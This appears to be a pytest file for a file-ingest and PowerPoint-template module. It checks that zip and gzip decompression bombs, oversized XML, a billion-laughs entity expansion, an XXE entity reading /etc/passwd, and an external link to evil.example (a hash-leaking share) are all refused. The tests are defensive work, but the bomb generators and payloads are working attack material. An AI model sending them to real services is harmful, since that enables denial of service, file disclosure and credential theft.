"""Archives that grow: nested, overlapping, of many entries, with sizes that lie; each stops, and memory stays bounded."""

from __future__ import annotations

import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

from core.export.template import BadTemplate, open_template
from tests.export.test_template import rezipped

ROOT = Path(__file__).parents[2]
MOST_MB, MOST_S = 700, 240
MAKE = """
import gzip, io, struct, sys, zipfile, zlib
from tests.ingest.eval_files import Entry, INSPECT_HEADER, dumped, zipped
MB = 1024 * 1024
header = Entry("header.json", dumped(INSPECT_HEADER))

def overlapping(count, size):
    # One deflated entry that every line of the directory but the header's names.
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    raw = packer.compress(b"0" * size) + packer.flush()
    crc = zlib.crc32(b"0" * size)
    whole = zipped(header)
    first = whole[:whole.index(b"PK\\x01\\x02")]
    lines = whole[len(first):whole.rindex(b"PK\\x05\\x06")]
    shared = struct.pack("<5H3I", 20, 0, 8, 0, 33, crc, len(raw), size)
    body = first + b"PK\\x03\\x04" + shared + struct.pack("<2H", 0, 0) + raw
    for number in range(count):
        name = b"samples/%d.json" % number
        lines += b"PK\\x01\\x02" + struct.pack("<H", 20) + shared
        lines += struct.pack("<5H2I", len(name), 0, 0, 0, 0, 0, len(first)) + name
    end = struct.pack("<4H2IH", 0, 0, count + 1, count + 1, len(lines), len(body), 0)
    return body + lines + b"PK\\x05\\x06" + end

def nested(depth):
    content = b"0" * (8 * MB)
    for _ in range(depth):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as file:
            file.writestr("header.json", content)
        content = out.getvalue()
    return content

MADE = {
    "overlapping": lambda: overlapping(2_000, 4 * MB),
    "many entries": lambda: zipped(header, *(Entry("samples/%d.json" % at, b"{}", 0) for at in range(60_000))),
    "one name": lambda: zipped(*[header] * 8_000),
    "nested": lambda: nested(40),
    "gzip in gzip": lambda: gzip.compress(gzip.compress(gzip.compress(b"0" * (900 * MB), 9), 9), 9),
    "gzip of a log": lambda: gzip.compress(overlapping(200, 100 * MB), 9),
    "small members": lambda: gzip.compress(b"", 9) * 350_000,
}
"""
READ = (
    MAKE
    + """
from core.ingest.files import FileProblem, read_upload
from core.ingest.options import ReadOptions
from tests.hostile.memory import peak_mb
content = MADE[sys.argv[1]]()
sys.stdout.write("made %d\\n" % len(content))
open("/proc/self/clear_refs", "w").write("5")
before = peak_mb()
try:
    rows = sum(batch.rows_read for batch in read_upload(io.BytesIO(content), "bomb.eval", ReadOptions()))
    told = "read %d rows" % rows
except FileProblem as problem:
    told = str(problem)
print(peak_mb() - before, told[:300], sep="\\n")
"""
)
BOMBS = {
    "overlapping": "over 400 times",
    "many entries": "read 60000 rows",
    "one name": "read 0 rows",
    "nested": "header.json cannot be read",
    "gzip in gzip": "No known format",
    "gzip of a log": "over 400 times",
    "small members": "the file is empty",
}
"""How each ends: of gzip one layer is taken off, an entry that is an archive is no JSON, and members are taken in turn."""


@pytest.mark.parametrize("bomb", BOMBS)
def test_a_bomb_stops_with_little_memory(bomb: str) -> None:
    done = subprocess.run(
        [sys.executable, "-c", READ, bomb],
        cwd=ROOT,
        capture_output=True,
        text=True,
        check=False,
        timeout=MOST_S,
    )
    assert done.returncode == 0, done.stderr[-2_000:]
    made, grown, told = done.stdout.splitlines()
    assert int(made.split()[1]) < 8 * 1024 * 1024, "a bomb is small"
    assert int(grown) < MOST_MB, f"{grown} MB: {told}"
    assert BOMBS[bomb] in told


def layout(filling: bytes) -> bytes:
    return b'<?xml version="1.0"?><p:sldLayout xmlns:p="x">' + filling + b"</p:sldLayout>"


@pytest.mark.parametrize("name", ["ppt/slideLayouts/slideLayout1.xml", "ppt/media/picture.png"])
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_a_template_of_much_xml_is_refused_before_it_is_parsed(name: str, encoding: str) -> None:
    """126 kB of shapes took 1.2 GB and minutes; a name or an encoding must not hide them."""
    many = layout(b"<p:sp/>" * (17 * 1024 * 1024 // 7)).decode().encode(encoding)
    with pytest.raises(BadTemplate, match="more than 16 MiB"):
        open_template(rezipped({name: many}, zipfile.ZIP_DEFLATED))


def test_a_template_that_fetches_something_is_refused() -> None:
    """A linked picture tells its host who opens the deck, and a share on Windows gets the reader's password hash."""
    relation = (
        b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/slideMaster" '
        b'Target="../slideMasters/slideMaster1.xml"/><Relationship Id="rId9" TargetMode="External" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/KIND" Target="//evil.example/share/x.png"/>'
        b"</Relationships>"
    )
    name = "ppt/slideLayouts/_rels/slideLayout6.xml.rels"
    with pytest.raises(BadTemplate, match="links to a image elsewhere"):
        open_template(rezipped({name: relation.replace(b"KIND", b"image")}))
    assert open_template(rezipped({name: relation.replace(b"KIND", b"hyperlink")})).layout.name


def test_entities_of_a_template_do_not_grow() -> None:
    grown = b"".join(b'<!ENTITY a%d "%s">' % (at, b"&a%d;" % (at - 1) * 10) for at in range(1, 10))
    laughs = b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a0 "ha">' + grown + b"]>"
    files = b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a9 SYSTEM "file:///etc/passwd">]>'
    for head in (laughs, files):
        with pytest.raises(BadTemplate):
            open_template(
                rezipped(
                    {
                        "ppt/slideLayouts/slideLayout1.xml": head
                        + b'<p:sldLayout xmlns:p="x">&a9;</p:sldLayout>'
                    }
                )
            )
